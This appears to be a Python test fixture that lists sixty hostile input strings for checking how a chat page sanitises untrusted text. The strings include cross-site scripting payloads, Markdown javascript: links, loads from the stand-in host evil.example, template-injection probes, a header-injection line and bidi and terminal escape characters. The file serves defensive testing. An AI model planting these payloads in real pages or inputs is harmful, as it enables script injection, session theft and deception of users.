"""Sixty texts that try to act on a page: as code, markup, a script link, a template or terminal escapes.

Use them as names, log lines, chat texts and settings. Each text that would run a script calls `alert`,
so the browser opens a dialog; each that would load something from elsewhere requests it from `evil.example`.
"""

CALL = "alert(document.domain)"
EVIL = "https://evil.example"

HOSTILE: dict[str, str] = {
    # elements and their handlers
    "script": f"<script>{CALL}</script>",
    "script with source": f'<script src="{EVIL}/x.js"></script>',
    "script in capitals": f"<ScRiPt >{CALL}</sCrIpT\t>",
    "script inside script": f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    "script end first": f"</script><script>{CALL}</script>",
    "json end": f'"}}</script><script>{CALL}</script>',
    "comment opens": f"<!--<script>{CALL}</script>",
    "comment closes": f"--><script>{CALL}</script>",
    "title closes": f"</title></textarea></style><img src=x onerror={CALL}>",
    "image error": f"<img src=x onerror={CALL}>",
    "image without spaces": f"<img/src=x/onerror={CALL}>",
    "image from elsewhere": f'<img src="{EVIL}/pixel.png">',
    "srcset": f'<img srcset="{EVIL}/pixel.png 1x">',
    "video poster": f'<video poster="{EVIL}/p.png"><source onerror={CALL}></video>',
    "audio error": f'<audio src="x" onerror="{CALL}" autoplay></audio>',
    "details toggle": f"<details open ontoggle={CALL}>x</details>",
    "focus": f"<input autofocus onfocus={CALL}>",
    "animation": f'<b style="animation:blink 1s" onanimationstart="{CALL}">x</b>',
    "marquee": f"<marquee onstart={CALL}>x</marquee>",
    "body load": f"<body onload={CALL}>",
    "attribute break": f'" onmouseover="{CALL}" x="',
    "attribute break single": f"' autofocus onfocus='{CALL}' x='",
    "backtick attribute": f"`onerror={CALL} src=x`",
    # other documents and namespaces
    "iframe": f'<iframe src="javascript:{CALL}"></iframe>',
    "iframe document": f'<iframe srcdoc="<script>parent.{CALL}</script>"></iframe>',
    "object": f'<object data="{EVIL}/x.swf"></object><embed src="{EVIL}/x">',
    "base": f'<base href="{EVIL}/"><a href="/admin">here</a>',
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}">',
    "style": f'<link rel="stylesheet" href="{EVIL}/x.css"><style>@import "{EVIL}/y.css";</style>',
    "style attribute": f'<p style="background:url({EVIL}/z.png);position:fixed;inset:0">over everything</p>',
    "form": f'<form action="{EVIL}"><button formaction="javascript:{CALL}">Sign in again</button></form>',
    "svg": f"<svg onload={CALL}><animate onbegin={CALL} attributeName=x></svg>",
    "svg link": f'<svg><a xlink:href="javascript:{CALL}"><text>click</text></a><use href="{EVIL}/s.svg#x"/></svg>',
    "mathml": f'<math><mi xlink:href="javascript:{CALL}">x</mi><annotation-xml><img src=x onerror={CALL}>',
    "mutation": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={CALL}&gt;">',
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={CALL}>"></noscript>',
    "template element": f"<template><script>{CALL}</script></template><slot></slot>",
    "clobbering": '<a id="data"></a><form id="words" name="getElementById"><input name="cookie"></form>',
    "entities": f"&lt;script&gt;{CALL}&lt;/script&gt;&#60;img src=x onerror={CALL}&#62;",
    # markdown
    "markdown link": f"[click](javascript:{CALL})",
    "markdown link with breaks": f"[click](java\nscript:{CALL}) [x](&#106;avascript:{CALL}) [x](\x01javascript:{CALL})",
    "markdown data link": f"[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) <javascript:{CALL}>",
    "markdown title": f'[click]({EVIL} "x\\" onmouseover=\\"{CALL}") [click](//evil.example) [click]( vbscript:{CALL})',
    "markdown image": f"![pixel]({EVIL}/pixel.png) ![x](javascript:{CALL}) ![x](x\\" + f'"onerror="{CALL})',
    "markdown reference": f"[click][1]\n\n[1]: javascript:{CALL}\n[2]: {EVIL}",
    "markdown fence": f'```"><img src=x onerror={CALL}>\n</code></pre><script>{CALL}</script>\n```',
    "markdown table": f"| <img src=x onerror={CALL}> |\n|---|\n| <svg onload={CALL}> |",
    "markdown nested": "> " * 300 + "- " * 300 + "[" * 300 + "*_~`" * 100,
    "thoughts and tools": f"<think><script>{CALL}</script></think><tool_call><img src=x onerror={CALL}></tool_call>",
    # templates and scripts of the page
    "braces": "{{7*7}} {% raw %} ${7*7} #{7*7} {{ config }} {{ cycler.__init__.__globals__ }}",
    "alpine data": f'<div x-data="{{}}" x-init="{CALL}" x-html="1" @click="{CALL}" :class="{CALL}">x</div>',
    "alpine names": "x-data=chat x-effect=stop(current) $dispatch('x') constructor.constructor('alert(1)')()",
    "prototype": "__proto__ constructor toString hasOwnProperty",
    "placeholders": "{count} {model} {title} {undefined} %s %(name)s",
    # invisible, control and other odd characters
    "bidi": "\u202egnp.exe\u202c \u2066\u2067\u061c\u200f right \u202d left \u2069",
    "invisible": "a\u200b\u200d\ufeff\u00ad\u2060b \U000e0041\U000e0042 Ｚ\u0336\u0489" + "\u0301" * 200,
    "control characters": "null \x00 bell \x07 back \x08 escape \x1b end \x7f \x85 \u2028 \u2029 \ufffe",
    "terminal": "\x1b[2J\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "lines": 'first\r\n\r\nSet-Cookie: paceline_session=x\r\ndata: {"error": {}}\n\nevent: state\n\n',
    "endless": "W" * 30_000,
}
